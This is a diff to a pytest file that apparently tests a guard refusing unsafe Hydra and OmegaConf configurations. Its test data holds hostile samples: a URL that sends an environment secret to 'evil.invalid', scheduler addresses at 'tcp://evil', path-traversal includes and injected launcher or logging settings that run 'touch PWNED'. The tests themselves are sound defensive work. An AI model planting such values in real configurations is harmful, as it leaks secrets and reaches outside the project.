@@ -1,6 +1,8 @@
 """No configuration starts a program, loads an object, reads the environment or other folders."""
 
+import dataclasses
 import os
+import typing
 
 import pytest
 from hypothesis import given
@@ -65,6 +67,21 @@ BLOCKS = {
     "Hydra's resolver": "question: '${hydra:runtime.cwd}'",
     "a resolver in a list": "target: {series: ['${oc.env:SECRET}']}",
     "a scheduler": "parallel: {address: 'tcp://evil:8786'}",
+    "a scheduler in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {++parallel.address: 'tcp://evil:8786'}}}",
+    "a scheduler's group in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {parallel: evil}}}",
+    "an escaped resolver in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {question: '\\${oc.env:SECRET}'}}}",
+    "words that nobody typed": (
+        "hydra: {mode: MULTIRUN, overrides: {task: ['++hydra.job_logging={version: 1,"
+        " handlers: {f: {class: logging.FileHandler, filename: PWNED}}}']}}"
+    ),
+    "a folder of Hydra's": "hydra: {runtime: {output_dir: PWNED}}",
+    "no block": "hydra: null",
+    "a list for a block": "hydra: [1]",
+    "an unknown mode": "hydra: {mode: SECRET}",
+    "a circle": "question: '${name}'\nname: '${question}'",
+    "an address that carries the environment": "data: {path: 'https://evil.invalid/${oc.env:SECRET}'}",
+    "an address behind a detour": "question: 'https:'\ndata: {path: '${question}//evil.invalid/${oc.env:SECRET}'}",
+    "an address behind a default": "data: {path: '${oc.env:NO_SUCH,s3}://${oc.env:SECRET}'}",
 }
 
 
@@ -107,6 +124,11 @@ GROUPS = {
         "# @package hydra.callbacks.e\n_target_: joblib.load\nfilename: x.pkl",
         "/model: evil",
     ),
+    "a choice from the environment": ("data/x.yaml", "path: null", "override /data: ${oc.env:SECRET}"),
+    "a file from the environment": ("data/x.yaml", "path: null", "${oc.env:SECRET}"),
+    "a file elsewhere": ("../outside.yaml", "question: stolen", "../../outside@_global_"),
+    "a group elsewhere": ("../outside.yaml", "question: stolen", "/data/../../outside@_global_"),
+    "a file that is no text": ("data/x.yaml", "\0", "/data: x"),
     "a scheduler by defaults": (
         "parallel/evil.yaml",
         "n_jobs: 1\nbackend: loky\naddress: tcp://evil:1",
@@ -116,13 +138,16 @@ GROUPS = {
 
 
 @pytest.mark.parametrize("name", GROUPS)
-def test_a_defaults_list_chooses_nothing_of_hydras(write, capsys, name):
+def test_a_defaults_list_chooses_nothing_of_hydras(write, monkeypatch, capsys, name):
+    monkeypatch.setenv("SECRET", "s3cret-word")
     file, text, line = GROUPS[name]
     write(file, text)
     write(
         "experiment/evil.yaml", f"# @package _global_\ndefaults:\n  - {line}\nname: evil\nquestion: Evil?\n"
     )
     assert main(["experiment=evil"]) == 2
+    said = capsys.readouterr()
+    assert "s3cret-word" not in said.out + said.err and "stolen" not in said.out + said.err
     assert not os.path.exists("PWNED")  # noqa: PTH110
 
 
@@ -187,8 +212,20 @@ def test_paths_may_read_the_environment_and_keys_each_other(write, monkeypatch, 
     exp = fc.load_experiment("mine")
     assert exp.data.path == "/data/a.csv" and exp.report.folder == "reports/x"
     assert exp.question == "mine at 12 months, ${as it is}"
+    monkeypatch.setenv("BUCKET", "s3://bucket")
+    assert fc.load_experiment("plain", "data.path=${oc.env:BUCKET}/a.csv").data.path == "s3://bucket/a.csv"
     with pytest.raises(ConfigError, match=r"data\.path: the environment has no variable NO_SUCH"):
         fc.load_experiment("plain", "data.path=${oc.env:NO_SUCH}")
+
+
+def test_hydra_shows_an_experiment_of_ones_own(write, capsys):
+    for words in (
+        ["--cfg", "job", "experiment=plain"],
+        ["experiment=plain", "--cfg", "job"],
+        ["experiment=plain", "-i"],
+    ):
+        assert main(words) == 0
+        assert "plain" in capsys.readouterr().out
 
 
 def test_a_schedulers_address_comes_from_the_command_line_or_conf_parallel(write):
@@ -237,6 +274,88 @@ def test_a_name_that_leaves_the_folder_of_reports_is_code_2(name):
 def test_what_differs_from_the_shipped_block_is_told_with_the_way_out():
     shipped = compose._composed("edge", [])["hydra"]
     changed = {**shipped, "verbose": True}
-    (problem,) = guard.hydra_problems(changed, shipped, [])
+    (problem,) = guard.hydra_problems(changed, shipped, [], [])
     assert problem.startswith("hydra.verbose is set to True") and "hydra.sweeper.params" in problem
-    assert guard.hydra_problems(shipped, shipped, []) == []
+    assert guard.hydra_problems(shipped, shipped, [], []) == []
+
+
+#: Keys of Hydra's block that a file may set, and those that Hydra fills in whatever a file says.
+MAY_BE_SET = ("hydra.mode", "hydra.sweep.dir", "hydra.sweeper.params", "hydra.sweeper.max_batch_size")
+FILLED_IN = (
+    "hydra.runtime.choices",
+    "hydra.runtime.config_sources",
+    "hydra.job.override_dirname",
+    "hydra.job.config_name",
+)
+
+
+def nested(key, value):
+    """Return a value below its dotted key; a list takes the place of one that was there."""
+    for part in reversed(key.split(".")):
+        name, _, index = part.partition("[")
+        value = {name: [value] if index else value}
+    return value
+
+
+def test_every_key_of_hydras_own_block_is_refused_but_those_allowed():
+    """The keys are taken from what Hydra composes, so a new one is refused by itself."""
+    shipped = compose._composed("edge", [])["hydra"]
+    keys = [
+        *guard.leaves(shipped, "hydra"),
+        *(f"hydra.{name}" for name, value in shipped.items() if value in ({}, [])),
+    ]
+    assert len(keys) > 40
+    for key in keys:
+        changed = OmegaConf.to_container(OmegaConf.merge(shipped, nested(key, 7)["hydra"]))
+        allowed = key.startswith((*MAY_BE_SET, *FILLED_IN)) and not key.startswith(
+            "hydra.runtime.choices.hydra/"
+        )
+        assert bool(guard.hydra_problems(changed, shipped, [], [])) is not allowed, key
+
+
+def test_texts_of_a_launcher_come_from_the_command_line_only(write):
+    shipped = {"launcher": {"_target_": "x", "setup": None, "n_jobs": 1}}
+    for value in ("touch PWNED", ["touch PWNED"]):
+        block = {"launcher": {"_target_": "x", "setup": value, "n_jobs": 2}}
+        assert guard.hydra_problems(block, shipped, [], [])
+        word = "hydra.launcher.setup=..."
+        spoken = {**block, "overrides": {"hydra": [word]}}
+        assert guard.hydra_problems(spoken, shipped, [], [word]) == []
+    assert guard.hydra_problems({"launcher": {**shipped["launcher"], "n_jobs": 2}}, shipped, [], []) == []
+
+
+def text_keys(kind, value, key=""):
+    """Return every key of nested settings that may hold a text, by the types of the dataclasses."""
+    if dataclasses.is_dataclass(kind):
+        hints = typing.get_type_hints(kind)
+        return [
+            found
+            for field in dataclasses.fields(kind)
+            for found in text_keys(
+                hints[field.name], getattr(value, field.name, None), f"{key}.{field.name}".lstrip(".")
+            )
+        ]
+    names = {part for part in (kind, *typing.get_args(kind)) if isinstance(part, type)}
+    inner = [part for part in names if dataclasses.is_dataclass(part)]
+    if inner and typing.get_origin(kind) is not dict and not key.endswith("model"):
+        return [found for part in inner for found in text_keys(part, value, key)]
+    return [key] if "str" in str(kind) or "Literal" in str(kind) else []
+
+
+def test_no_text_of_the_settings_reads_the_environment_but_paths(write, monkeypatch):
+    """The keys are taken from the dataclasses, so a new one is refused by itself."""
+    monkeypatch.setenv("SECRET", "s3cret-word")
+    keys = text_keys(fc.Experiment, fc.Experiment())
+    assert len(keys) > 30 and set(guard.PATH_KEYS) <= set(keys)
+    plain = compose._composed("config", [])
+    plain.pop("hydra")
+    for key in keys:
+        *groups, last = key.split(".")
+        place = plain
+        for group in groups:
+            place = place[group]
+        place[last] = "${oc.env:SECRET}"
+    with pytest.raises(ConfigError) as caught:
+        compose.resolved(plain)
+    refused = {line.partition(": ")[0] for line in str(caught.value).splitlines()}
+    assert set(keys) - refused == set(guard.PATH_KEYS)
